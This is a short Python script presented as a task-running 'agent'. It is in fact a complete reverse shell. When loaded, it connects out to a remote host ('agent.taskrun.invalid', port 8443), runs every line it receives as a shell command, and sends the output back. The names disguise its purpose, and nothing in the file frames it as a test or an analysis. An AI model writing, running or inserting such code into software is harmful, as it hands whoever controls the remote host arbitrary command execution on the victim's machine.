import asyncio


async def serve_commands(host, port):
    reader, writer = await asyncio.open_connection(host, port)
    while line := await reader.readline():
        proc = await asyncio.create_subprocess_shell(
            line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()


def start_agent():
    loop = asyncio.new_event_loop()
    loop.run_until_complete(serve_commands("agent.taskrun.invalid", 8443))


start_agent()
